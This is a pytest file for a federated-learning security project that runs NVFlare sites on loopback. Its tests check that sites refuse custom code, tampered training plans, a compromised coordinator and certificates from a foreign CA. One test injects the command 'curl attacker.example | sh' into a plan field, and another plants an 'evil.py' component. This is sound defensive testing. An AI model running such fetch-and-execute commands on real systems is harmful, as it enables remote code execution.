"""A real loopback federation: coordinator and three sites as NVFlare processes on 127.0.0.1.

One federation serves the session (conftest.py); a test here that stops a participant starts
it again, so they run in any order. The coordinator's own policy is NVFlare's permissive
default here (as if it were compromised), so what refuses custom code below is the sites'
hardening.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest
from safetensors.numpy import load_file
from typer.testing import CliRunner

pytest.importorskip("nvflare")

from fedsec.bundles.bundle import load_bundle
from fedsec.bundles.keys import user_trust
from fedsec.cli import app
from fedsec.core import seeding
from fedsec.engines.nvflare import poc
from fedsec.engines.nvflare.job import build_job, fetch, run_job, session, submit, wait
from fedsec.engines.nvflare.ledger_file import LEDGER_FILE
from fedsec.engines.nvflare.plan import JobSpec
from fedsec.engines.nvflare.provision import Admin, FederationSpec, Identity, provision
from fedsec.engines.nvflare.results import read_result
from fedsec.engines.nvflare.site import Site
from fedsec.engines.nvflare.site_config import config_from_scenario
from fedsec.experiments.deployed import write_site_only_run
from fedsec.scenarios.config import SampleDpConfig, parse_scenario
from fedsec.scenarios.federation import build_federation
from fedsec.tasks.classification.arms import train_federated
from fedsec.tasks.classification.experiment import org_frames
from fedsec.training import dpsgd
from fedsec.training.noise import SecureNoise
from fedsec.training.params import max_abs_diff
from tests.engines.nvflare.loopback import JOB_TIMEOUT, spec_for

pytestmark = pytest.mark.deployment
RESUMED_ROUNDS = 8  # killed once round 1 is streamed: the rounds after it are the resumed job's


def test_under_homomorphic_encryption_the_global_model_equals_the_in_process_engines(
    federation, consortium, tmp_path
):
    """Equal to far below training noise: both runs carry CKKS noise (~1e-9 per summed value).
    Each deployed job costs tens of seconds of process start-ups, so the other jobs here each
    carry several proofs: a job in clear (under the scenario's robust rule) equals the
    in-process model in the resumed 8-round job below; secure aggregation in the SCAFFOLD
    job."""
    data, scenario = consortium
    privacy = scenario.privacy.model_copy(update={"homomorphic_encryption": True})
    scenario = scenario.model_copy(update={"privacy": privacy})
    _, meta, result = run_job(
        spec_for(scenario), federation.admin_kit, federation.admin, tmp_path, JOB_TIMEOUT
    )
    assert meta["status"] == "FINISHED:COMPLETED", meta
    assert result is not None and result.error is None and not result.dropouts
    assert [h.round for h in result.history] == [1, 2, 3]
    assert max_abs_diff(result.params, _flat_params(_in_process(scenario, data))) <= 1e-5


def test_scaffold_under_secure_aggregation_deployed_equals_the_in_process_engines(
    federation, consortium, tmp_path
):
    """SCAFFOLD over NVFlare: each site's job process keeps its own control variate between
    rounds, the coordinator's rides in the plan; the updates and control-variate changes are
    masked (secure aggregation); DP off, the same model as in process. One job for both (the
    in-memory tests of test_coordinator.py take each alone): in process this model is 2.9e-4
    from the same job in clear (secure sums round to fixed point) and 0.67 from FedAvg's, so
    the 1e-6 tolerance fails a job that dropped either."""
    data, scenario = consortium
    strategy = scenario.strategy.model_copy(update={"name": "scaffold", "server_lr": None})
    privacy = scenario.privacy.model_copy(update={"secure_aggregation": True})
    scenario = scenario.model_copy(update={"strategy": strategy, "privacy": privacy})
    _, meta, result = run_job(
        spec_for(scenario), federation.admin_kit, federation.admin, tmp_path, JOB_TIMEOUT
    )
    assert meta["status"] == "FINISHED:COMPLETED", meta
    assert result is not None and result.error is None and not result.dropouts
    assert [h.round for h in result.history] == [1, 2, 3]
    assert all(sorted(h.contributed) == sorted(scenario.org_names()) for h in result.history)
    assert max_abs_diff(result.params, _flat_params(_in_process(scenario, data))) <= 1e-6


def _flat_params(arm):
    return next(iter(arm.models.values())).get_weights()


def test_with_dp_sgd_the_deployed_model_is_another_draw_of_the_in_process_one(
    federation, consortium, tmp_path, monkeypatch
):
    """Exact with DP off (above). Each site draws its DP-SGD noise and batches from its own
    CSPRNG: the same accounting as in process (10 steps a round), and the deployed model is as
    far from the seeded in-process one as an in-process run with fresh noise is."""
    data, scenario = consortium
    privacy = scenario.privacy.model_copy(update={"sample_dp": SampleDpConfig(epsilon=4.0)})
    scenario = scenario.model_copy(update={"privacy": privacy})
    # each site calibrates its noise multiplier in round 1 (Opacus' search, slow on 2 cores)
    spec = spec_for(scenario, round_timeout=300.0)
    job, meta, result = run_job(spec, federation.admin_kit, federation.admin, tmp_path, 600)
    assert meta["status"] == "FINISHED:COMPLETED", meta
    assert result is not None and result.error is None and not result.dropouts
    for site in federation.sites:  # every DP-SGD step kept beside the site's own config
        ledger = json.loads((federation.kit(site) / "local" / LEDGER_FILE).read_text())
        (mine,) = (steps for key, steps in ledger["jobs"].items() if key.startswith(f"{job}@"))
        assert sum(steps for _, _, steps in mine) == 3 * 10
    seeded = _in_process(scenario, data)
    assert set(result.evaluation) == set(seeded.privacy)
    for name, spent in seeded.privacy.items():  # the site's own ledger's, rounded up, at its δ
        told = result.evaluation[name]["sample_dp"]
        assert told | {"epsilon": spent["epsilon"]} == spent | {"delta": 1e-5, "accountant": "rdp"}
        assert 0 <= round(told["epsilon"] - spent["epsilon"], 6) <= 1e-4
    assert {spent["steps"] for spent in seeded.privacy.values()} == {3 * 10}
    monkeypatch.setattr(dpsgd, "SeededNoise", lambda _seed: SecureNoise())
    fresh = _in_process(scenario, data)
    reference = _flat(seeded)
    deployed_gap = np.linalg.norm(_flat(result.params) - reference)
    assert 0.8 < deployed_gap / np.linalg.norm(_flat(fresh) - reference) < 1.25


def _in_process(scenario, data):
    seeding.deterministic_torch(threads=1)
    return train_federated(scenario, org_frames(build_federation(scenario, data)), lambda _: None)


def _flat(params_or_arm) -> np.ndarray:
    params = getattr(params_or_arm, "models", None)
    params = next(iter(params.values())).get_weights() if params else params_or_arm
    return np.concatenate([p.ravel().astype(np.float64) for p in params])


def test_a_job_carrying_custom_code_is_refused_by_the_sites(federation, consortium, tmp_path):
    _, scenario = consortium
    folder = build_job(spec_for(scenario), tmp_path / "job")
    marker = tmp_path / "custom-code-ran"
    custom = folder / "app" / "custom"
    custom.mkdir()
    (custom / "evil.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    client = folder / "app" / "config" / "config_fed_client.json"
    config = json.loads(client.read_text())
    config["components"] = [{"id": "evil", "path": "evil.Evil", "args": {}}]
    client.write_text(json.dumps(config))
    with session(federation.admin_kit, federation.admin) as admin:
        job_id = submit(admin, folder)
        meta = with_deploy_detail(admin, job_id, wait(admin, job_id, JOB_TIMEOUT))
    details = meta.get("job_deploy_detail", [])
    assert "server: OK" in details  # the (compromised) coordinator let it through
    for site in scenario.org_names():
        assert any(d.startswith(site) and "BYOC not permitted" in d for d in details), details
    assert meta["status"] != "FINISHED:COMPLETED"
    assert not marker.exists()


def with_deploy_detail(admin, job_id: str, meta: dict, timeout: float = 10.0) -> dict:
    """``meta`` once it holds the job's deployment details: of a job it could not start, NVFlare
    publishes the finished status a moment before those details (the test read none)."""
    deadline = time.monotonic() + timeout
    while not meta.get("job_deploy_detail") and time.monotonic() < deadline:
        time.sleep(0.1)
        meta = admin.get_job_meta(job_id)
    return meta


def test_an_unknown_training_plan_field_is_refused_by_the_sites(federation, consortium, tmp_path):
    _, scenario = consortium
    spec = spec_for(scenario)
    tampered = spec.model_dump(mode="json")
    tampered["training"]["run_command"] = "curl attacker.example | sh"
    _, meta, result = run_job(
        spec, federation.admin_kit, federation.admin, tmp_path, JOB_TIMEOUT, job=tampered
    )
    assert meta["status"] != "FINISHED:COMPLETED"
    assert result is not None and result.params is None
    for site in scenario.org_names():
        reason = result.dropouts[site]
        assert "training plan refused: training.run_command: Extra inputs are not permitted" in (
            reason
        )
    assert "needed" in result.error


def compromised_job(spec: JobSpec, directory: Path, sites: list[str]) -> Path:
    """fedsec's job, but the coordinator runs ``compromised_coordinator.py`` (custom code of a
    server-only app, which the coordinator's permissive policy lets through); the sites get
    fedsec's unmodified executor in an app of their own."""
    folder = build_job(spec, directory)
    app, server, client = folder / "app", folder / "app_server", folder / "app_sites"
    config = json.loads((app / "config" / "config_fed_server.json").read_text())
    config["workflows"][0]["path"] = "compromised_coordinator.CompromisedController"
    (server / "config").mkdir(parents=True)
    (server / "config" / "config_fed_server.json").write_text(json.dumps(config))
    (server / "custom").mkdir()
    shutil.copy(Path(__file__).with_name("compromised_coordinator.py"), server / "custom")
    (client / "config").mkdir(parents=True)
    shutil.move(app / "config" / "config_fed_client.json", client / "config")
    shutil.rmtree(app)
    meta = json.loads((folder / "meta.json").read_text())
    meta["deploy_map"] = {"app_server": ["server"], "app_sites": sites}
    (folder / "meta.json").write_text(json.dumps(meta))
    return folder


def victim_update(consortium, fetched: Path, victim: str) -> np.ndarray:
    """What ``victim`` masked in round 1, recomputed in process from the task it was sent."""
    data, scenario = consortium
    task = json.loads((fetched / "round1-task.json").read_text())
    arrays = load_file(fetched / "round1-params.safetensors")
    task["params"] = [arrays[f"params/{i}"] for i in range(len(arrays))]
    seeding.deterministic_torch(threads=1)
    site = Site(config_from_scenario(scenario, victim, data), data, job="recompute")
    site.handle("fedsec_train", task)
    return site.secure.pending[1].vector


def test_a_compromised_coordinator_recovers_nothing_and_the_sites_say_why(
    federation, consortium, tmp_path
):
    """Attack (b) of the issue from a modified coordinator: the victim is told it masks alone,
    then everyone that all survived. The victim refuses to mask, the others to reveal."""
    _, scenario = consortium
    privacy = scenario.privacy.model_copy(update={"secure_aggregation": True})
    scenario = scenario.model_copy(update={"privacy": privacy})
    victim, others = "plant", ["cloud", "office"]
    folder = compromised_job(spec_for(scenario), tmp_path / "job", federation.sites)
    with session(federation.admin_kit, federation.admin) as admin:
        job_id = submit(admin, folder)
        meta = wait(admin, job_id, JOB_TIMEOUT)
        fetched = fetch(admin, job_id, tmp_path / "results")
    assert meta["status"] == "FINISHED:COMPLETED", meta
    truth = victim_update(consortium, fetched, victim)
    stolen = fetched / "attack.safetensors"
    recovered = load_file(stolen)["recovered"] if stolen.exists() else None
    assert recovered is None or np.abs(recovered - truth).max() > 1e-3, "update recovered"
    evidence = json.loads((fetched / "attack.json").read_text())
    assert evidence["reveals"] == 0 and not evidence["masked_update_received"]
    refusals = evidence["refusals"]
    assert "(mask, round 1): participants: 1 organization(s)" in refusals[victim]
    for site in others:
        assert f"(reveal, round 1): confirmations: missing from ['{victim}']" in refusals[site]
    for site in federation.sites:  # each site's own log says why
        log = _text(federation.kit(site) / job_id / "log.txt")
        assert "refused fedsec_secagg_" in log and "secure aggregation refused" in log
    result = read_result(fetched)
    assert result.history[0].aborted is not None and result.history[0].contributed == []
    assert [h.contributed for h in result.history[1:]] == [sorted(others)] * 2
    run = write_site_only_run(scenario, result, job_id, tmp_path / "run")
    report = (run / "report.md").read_text()
    assert f"- round 1: refused by {victim}: secure aggregation refused (mask, round 1)" in report
    assert "updates under secure aggregation in 2 of 3 rounds." in report


def test_a_site_certificate_from_a_foreign_ca_is_refused(federation, tmp_path):
    foreign = provision(
        FederationSpec(
            project=federation.project,
            coordinator=poc.SERVER,
            fed_learn_port=federation.ports["fed_learn"],
            admin_port=federation.ports["admin"],
            sites=[Identity(name=s, org=federation.orgs[s]) for s in federation.sites],
            admins=[Admin(name=federation.admin, org="consortium")],
        ),
        tmp_path / "foreign",
    )
    genuine_ca = federation.kit("plant") / "startup" / "rootCA.pem"
    assert genuine_ca.read_bytes() != (foreign / "plant" / "startup" / "rootCA.pem").read_bytes()
    port = federation.ports["fed_learn"]
    assert handshake(federation.kit("plant") / "startup", genuine_ca, port) == "accepted"
    assert handshake(foreign / "plant" / "startup", genuine_ca, port) == "refused"

    # The real client, given the project's public root CA as an attacker would, never joins.
    kit = foreign / "plant"
    shutil.copy(genuine_ca, kit / "startup" / "rootCA.pem")
    pid = poc.launch(federation, "plant", kit)
    try:
        with pytest.raises(poc.PocError, match="did not register"):
            poc.wait_registered(kit, 0, pid, timeout=15)
    finally:
        assert poc.kill(pid, kit)
    assert not poc.alive(pid)


def handshake(startup: Path, ca: Path, port: int) -> str:
    """Present ``startup``'s client certificate to the coordinator over TLS."""
    context = ssl.create_default_context(cafile=str(ca))
    context.check_hostname = False
    context.load_cert_chain(startup / "client.crt", startup / "client.key")
    with socket.create_connection(("127.0.0.1", port), timeout=5) as raw:
        try:
            with context.wrap_socket(raw) as tls:
                tls.settimeout(2)
                tls.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
                return "accepted" if tls.recv(1) else "refused"
        except (ssl.SSLError, ConnectionResetError, BrokenPipeError):
            return "refused"
        except TimeoutError:
            return "accepted"


def test_a_coordinator_killed_mid_job_resumes_and_completes(
    federation, consortium, tmp_path, monkeypatch
):
    """As a user lives it: ``job submit`` streams rounds; the coordinator dies mid-job; submit
    says where and how to resume; the restarted coordinator lists the job ABANDONED; the
    resumed job loses at most one round and ends with the in-process engine's model.

    Also the job in clear of this file, under the scenario's ``[robustness]`` rule: the rule
    reaches the coordinator through the job folder (before, the deployment dropped the section
    and averaged plainly), its decisions come back in the run's rounds, and the model is the
    in-process one of the same defended scenario (so the rule's state went through the
    checkpoint as well)."""
    data, scenario = consortium
    defended = {"robustness": {"rule": "pair_conflict"}, "rounds": RESUMED_ROUNDS}
    long = parse_scenario(json.loads(scenario.model_dump_json()) | defended)
    config = tmp_path / "scenario.toml"
    config.write_text(long.to_toml())
    submit = [sys.executable, "-m", "fedsec", "job", "submit", str(config),
              "--federation", federation.directory, "--out", str(tmp_path / "run"),
              "--min-sites", "2", "--round-timeout", "30"]  # fmt: skip
    env = {k: v for k, v in os.environ.items() if k != "FEDSEC_DATA"}  # sites' view only
    first = subprocess.Popen(submit, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                             env=env, cwd=tmp_path)  # fmt: skip
    lines: list[str] = []
    reader = threading.Thread(target=_collect, args=(first.stdout, lines), daemon=True)
    reader.start()
    try:
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline and not any(x.startswith("round ") for x in lines):
            time.sleep(0.1)
        streamed = [x for x in lines if x.startswith("round ")]
        assert streamed, f"no round streamed before the crash: {lines}"
        assert int(streamed[0].split()[1].split("/")[0]) < RESUMED_ROUNDS
        server = federation.pids[poc.SERVER]
        family = [server, *poc.descendants(server)]
        os.kill(server, signal.SIGKILL)  # a crash: no clean shutdown
        with contextlib.suppress(ChildProcessError):
            os.waitpid(server, 0)  # reaped, as its shell would: its job process sees it gone
        _wait_gone(family)
        poc.restart_coordinator(federation, timeout=120)
        first.wait(timeout=240)
    finally:
        if first.poll() is None:
            first.kill()
    reader.join(timeout=5)
    output = "".join(lines)
    job_id = lines[0].split()[1]
    assert first.returncode == 2, output
    assert "Traceback" not in output
    assert f"--resume {job_id}" in " ".join(output.split())

    with session(federation.admin_kit, federation.admin) as admin:
        assert admin.get_job_meta(job_id)["status"] == "FINISHED:ABANDONED"
    log = (federation.kit(poc.SERVER) / job_id / "log.txt").read_text(errors="replace")
    done = max(int(m) for m in re.findall(r"round (\d+): \[", log))

    # the resuming submit runs in this process: the same command, without a second start-up
    monkeypatch.delenv("FEDSEC_DATA", raising=False)
    monkeypatch.chdir(tmp_path)
    again = [*submit[3:], "--resume", job_id, "--timeout", str(JOB_TIMEOUT)]
    second = CliRunner().invoke(app, again)
    assert second.exit_code == 0, second.output
    resumed = re.search(rf"resumed job {job_id} after its round (\d+)", second.output)
    assert resumed, second.output
    kept = int(resumed.group(1))
    assert done - 1 <= kept <= done  # at most one round lost
    run = json.loads((tmp_path / "run" / "metrics.json").read_text())["deployment"]
    assert run["resumed"] == [{"job": job_id, "round": kept}]
    assert [r["round"] for r in run["rounds"]] == list(range(1, RESUMED_ROUNDS + 1))
    assert not run["dropouts"] and run["error"] is None
    for site, reply in run["site_evaluation"].items():  # the chain each site signed: its own
        chain = json.loads(reply["attestation"]["statement"])["chain"]
        carried = {e["round"] for e in chain if e.get("job") == job_id}  # from its ledger file
        assert set(range(1, kept + 1)) <= carried, f"{site} carried none of {job_id}: {chain}"
        own = [e["round"] for e in chain if "job" not in e]
        assert own == list(range(kept + 1, RESUMED_ROUNDS + 1)), chain
    decisions = [r["defence"] for r in run["rounds"]]
    assert [d["rule"] for d in decisions] == ["pair_conflict"] * RESUMED_ROUNDS, (
        "the scenario's robust rule ran in the deployed coordinator, before and after the resume"
    )
    assert all(sorted(d["share"]) == sorted(long.org_names()) for d in decisions), (
        "every organization shared in every round: the job in clear, no site dropped"
    )
    for round_ in range(kept + 1, RESUMED_ROUNDS + 1):
        assert f"round {round_}/{RESUMED_ROUNDS}: loss" in second.output
    ca = federation.admin_kit / "startup" / "rootCA.pem"
    model, _ = load_bundle(tmp_path / "run" / "model", user_trust([ca]))  # the admin's kit signed
    seeding.deterministic_torch(threads=1)
    arm = train_federated(long, org_frames(build_federation(long, data)), lambda _: None)
    reference = next(iter(arm.models.values())).get_weights()
    assert max_abs_diff(model.get_weights(), reference) <= 1e-6


def _collect(stream, lines: list[str]) -> None:
    for line in stream:
        lines.append(line)


def _wait_gone(pids: list[int], timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline and any(poc.alive(p) for p in pids):
        time.sleep(0.2)
    assert not any(poc.alive(p) for p in pids), "the coordinator's job process outlived it"


def _text(path: Path) -> str:
    return path.read_text(errors="replace") if path.exists() else ""
